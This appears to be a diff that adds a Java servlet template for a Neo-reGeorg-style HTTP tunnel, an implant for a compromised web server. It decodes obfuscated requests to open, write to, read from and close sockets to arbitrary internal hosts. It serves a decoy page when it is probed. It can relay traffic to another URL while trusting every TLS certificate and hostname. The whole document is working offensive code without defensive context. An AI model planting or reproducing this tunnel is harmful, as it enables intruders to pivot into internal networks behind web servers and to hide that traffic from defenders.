@@ -0,0 +1,290 @@
+static final String NEO_CHARS = "NEOREG_CHARS";
+static final int NEO_OFFSET = NEOREG_OFFSET;
+static final int NEO_MAX_READ = NEOREG_MAXREAD;
+static final String NEO_PREFIX = "NEOREG_PREFIX";
+static final String NEO_SUFFIX = "NEOREG_SUFFIX";
+static final int[] NEO_DECODE = new int[128];
+
+static {
+    for (int i = 0; i < NEO_DECODE.length; i++) {
+        NEO_DECODE[i] = -1;
+    }
+    for (int i = 0; i < 64; i++) {
+        NEO_DECODE[NEO_CHARS.charAt(i)] = i;
+    }
+}
+
+static String neoEncode(byte[] data) {
+    StringBuilder sb = new StringBuilder((data.length + 2) / 3 * 4);
+    for (int i = 0; i < data.length; i += 3) {
+        int b = (data[i] & 0xff) << 16;
+        if (i + 1 < data.length) {
+            b |= (data[i + 1] & 0xff) << 8;
+        }
+        if (i + 2 < data.length) {
+            b |= data[i + 2] & 0xff;
+        }
+        sb.append(NEO_CHARS.charAt((b >> 18) & 63));
+        sb.append(NEO_CHARS.charAt((b >> 12) & 63));
+        sb.append(i + 1 < data.length ? NEO_CHARS.charAt((b >> 6) & 63) : '=');
+        sb.append(i + 2 < data.length ? NEO_CHARS.charAt(b & 63) : '=');
+    }
+    return sb.toString();
+}
+
+static byte[] neoDecode(String s) {
+    ByteArrayOutputStream out = new ByteArrayOutputStream(s.length() * 3 / 4 + 1);
+    int buf = 0;
+    int bits = 0;
+    for (int i = 0; i < s.length(); i++) {
+        char c = s.charAt(i);
+        if (c >= 128 || NEO_DECODE[c] < 0) {
+            continue;
+        }
+        buf = (buf << 6) | NEO_DECODE[c];
+        bits += 6;
+        if (bits >= 8) {
+            bits -= 8;
+            out.write((buf >> bits) & 0xff);
+            buf &= (1 << bits) - 1;
+        }
+    }
+    return out.toByteArray();
+}
+
+static String neoLatin1(byte[] data) {
+    char[] chars = new char[data.length];
+    for (int i = 0; i < data.length; i++) {
+        chars[i] = (char) (data[i] & 0xff);
+    }
+    return new String(chars);
+}
+
+static String neoUnwrap(String s) {
+    String prefix = neoLatin1(neoDecode(NEO_PREFIX));
+    String suffix = neoLatin1(neoDecode(NEO_SUFFIX));
+    s = s.trim();
+    if (prefix.length() > 0 && s.startsWith(prefix)) {
+        s = s.substring(prefix.length());
+    }
+    if (suffix.length() > 0 && s.endsWith(suffix)) {
+        s = s.substring(0, s.length() - suffix.length());
+    }
+    return s;
+}
+
+static String neoWrap(String s) {
+    return neoLatin1(neoDecode(NEO_PREFIX)) + s + neoLatin1(neoDecode(NEO_SUFFIX));
+}
+
+static byte[] neoPad(Random random) {
+    byte[] pad = new byte[5 + random.nextInt(16)];
+    random.nextBytes(pad);
+    return pad;
+}
+
+static Map<Integer, byte[]> blvDecode(byte[] data) {
+    Map<Integer, byte[]> info = new HashMap<Integer, byte[]>();
+    int i = 0;
+    while (i + 5 <= data.length) {
+        int b = data[i] & 0xff;
+        int l = (((data[i + 1] & 0xff) << 24) | ((data[i + 2] & 0xff) << 16) | ((data[i + 3] & 0xff) << 8) | (data[i + 4] & 0xff)) - NEO_OFFSET;
+        i += 5;
+        if (l < 0 || l > data.length - i) {
+            return null;
+        }
+        byte[] v = new byte[l];
+        System.arraycopy(data, i, v, 0, l);
+        i += l;
+        info.put(Integer.valueOf(b), v);
+    }
+    return info;
+}
+
+static byte[] blvEncode(Map<Integer, byte[]> info) {
+    Random random = new Random();
+    info.put(Integer.valueOf(0), neoPad(random));
+    info.put(Integer.valueOf(39), neoPad(random));
+    ByteArrayOutputStream out = new ByteArrayOutputStream();
+    for (Map.Entry<Integer, byte[]> e : new TreeMap<Integer, byte[]>(info).entrySet()) {
+        byte[] v = e.getValue();
+        int l = v.length + NEO_OFFSET;
+        out.write(e.getKey().intValue());
+        out.write(l >>> 24);
+        out.write(l >>> 16);
+        out.write(l >>> 8);
+        out.write(l);
+        out.write(v, 0, v.length);
+    }
+    return out.toByteArray();
+}
+
+static Map<Integer, byte[]> neoStatus(String status, String err) {
+    Map<Integer, byte[]> info = new HashMap<Integer, byte[]>();
+    info.put(Integer.valueOf(4), status.getBytes());
+    if (err != null) {
+        info.put(Integer.valueOf(5), err.getBytes());
+    }
+    return info;
+}
+
+static byte[] neoReadAll(InputStream in) throws IOException {
+    ByteArrayOutputStream out = new ByteArrayOutputStream();
+    byte[] buf = new byte[8192];
+    int n;
+    while ((n = in.read(buf)) > 0) {
+        out.write(buf, 0, n);
+    }
+    return out.toByteArray();
+}
+
+static void neoTrustAll(HttpURLConnection conn) throws Exception {
+    if (!(conn instanceof HttpsURLConnection)) {
+        return;
+    }
+    SSLContext ctx = SSLContext.getInstance("TLS");
+    ctx.init(null, new TrustManager[]{new X509TrustManager() {
+        public void checkClientTrusted(X509Certificate[] chain, String authType) {
+        }
+
+        public void checkServerTrusted(X509Certificate[] chain, String authType) {
+        }
+
+        public X509Certificate[] getAcceptedIssuers() {
+            return new X509Certificate[0];
+        }
+    }}, new SecureRandom());
+    ((HttpsURLConnection) conn).setSSLSocketFactory(ctx.getSocketFactory());
+    ((HttpsURLConnection) conn).setHostnameVerifier(new HostnameVerifier() {
+        public boolean verify(String hostname, SSLSession session) {
+            return true;
+        }
+    });
+}
+
+static void neoTunnel(HttpServletRequest request, HttpServletResponse response, ServletContext application, Writer out) throws Exception {
+    response.setContentType("text/html");
+    Map<Integer, byte[]> info = null;
+    try {
+        info = blvDecode(neoDecode(neoUnwrap(new String(neoReadAll(request.getInputStream()), "ISO-8859-1"))));
+    } catch (Exception e) {
+    }
+    byte[] command = info == null ? null : info.get(Integer.valueOf(2));
+    if (command == null) {
+        response.setStatus(NEOREG_CODE);
+        out.write(new String(neoDecode("NEOREG_PAGE"), "UTF-8"));
+        return;
+    }
+    String cmd = new String(command);
+    byte[] markBytes = info.get(Integer.valueOf(3));
+    String mark = "neoreg_" + (markBytes == null ? "" : new String(markBytes));
+
+    byte[] redirect = info.remove(Integer.valueOf(8));
+    info.remove(Integer.valueOf(9));
+    if (redirect != null && redirect.length > 0) {
+        try {
+            HttpURLConnection conn = (HttpURLConnection) new URL(new String(redirect)).openConnection();
+            neoTrustAll(conn);
+            conn.setConnectTimeout(5000);
+            conn.setReadTimeout(30000);
+            conn.setDoOutput(true);
+            conn.setRequestMethod("GET".equals(request.getMethod()) ? "POST" : request.getMethod());
+            conn.setRequestProperty("Content-Type", request.getContentType() == null ? "application/octet-stream" : request.getContentType());
+            OutputStream os = conn.getOutputStream();
+            os.write(neoWrap(neoEncode(blvEncode(info))).getBytes("ISO-8859-1"));
+            os.close();
+            InputStream is = conn.getResponseCode() >= 400 ? conn.getErrorStream() : conn.getInputStream();
+            response.setStatus(conn.getResponseCode());
+            if (is != null) {
+                out.write(new String(neoReadAll(is), "ISO-8859-1"));
+            }
+        } catch (Exception e) {
+            out.write(neoWrap(neoEncode(blvEncode(neoStatus("FAIL", "redirect failed: " + e)))));
+        }
+        return;
+    }
+
+    Map<Integer, byte[]> reply;
+    if ("CONNECT".equals(cmd)) {
+        try {
+            SocketChannel ch = SocketChannel.open();
+            ch.socket().connect(new InetSocketAddress(new String(info.get(Integer.valueOf(6))), Integer.parseInt(new String(info.get(Integer.valueOf(7))))), 5000);
+            ch.configureBlocking(false);
+            Object old = application.getAttribute(mark);
+            if (old instanceof SocketChannel) {
+                ((SocketChannel) old).close();
+            }
+            application.setAttribute(mark, ch);
+            reply = neoStatus("OK", null);
+        } catch (Exception e) {
+            reply = neoStatus("FAIL", String.valueOf(e.getMessage()));
+        }
+    } else if ("FORWARD".equals(cmd)) {
+        SocketChannel ch = (SocketChannel) application.getAttribute(mark);
+        if (ch == null) {
+            reply = neoStatus("FAIL", "session not found");
+        } else {
+            try {
+                byte[] data = info.get(Integer.valueOf(1));
+                ByteBuffer bb = ByteBuffer.wrap(data == null ? new byte[0] : data);
+                synchronized (ch) {
+                    while (bb.hasRemaining()) {
+                        if (ch.write(bb) == 0) {
+                            Thread.sleep(1);
+                        }
+                    }
+                }
+                reply = neoStatus("OK", null);
+            } catch (Exception e) {
+                application.removeAttribute(mark);
+                ch.close();
+                reply = neoStatus("FAIL", String.valueOf(e.getMessage()));
+            }
+        }
+    } else if ("READ".equals(cmd)) {
+        SocketChannel ch = (SocketChannel) application.getAttribute(mark);
+        if (ch == null) {
+            reply = neoStatus("FAIL", "session not found");
+        } else {
+            try {
+                ByteBuffer bb = ByteBuffer.allocate(NEO_MAX_READ);
+                int n = 0;
+                synchronized (ch) {
+                    while (bb.hasRemaining()) {
+                        n = ch.read(bb);
+                        if (n <= 0) {
+                            break;
+                        }
+                    }
+                }
+                if (n < 0 && bb.position() == 0) {
+                    application.removeAttribute(mark);
+                    ch.close();
+                    reply = neoStatus("FAIL", null);
+                } else {
+                    byte[] data = new byte[bb.position()];
+                    bb.flip();
+                    bb.get(data);
+                    reply = neoStatus("OK", null);
+                    reply.put(Integer.valueOf(1), data);
+                }
+            } catch (Exception e) {
+                application.removeAttribute(mark);
+                ch.close();
+                reply = neoStatus("FAIL", String.valueOf(e.getMessage()));
+            }
+        }
+    } else if ("DISCONNECT".equals(cmd)) {
+        Object ch = application.getAttribute(mark);
+        application.removeAttribute(mark);
+        if (ch instanceof SocketChannel) {
+            ((SocketChannel) ch).close();
+        }
+        reply = neoStatus("OK", null);
+    } else {
+        response.setStatus(NEOREG_CODE);
+        out.write(new String(neoDecode("NEOREG_PAGE"), "UTF-8"));
+        return;
+    }
+    out.write(neoWrap(neoEncode(blvEncode(reply))));
+}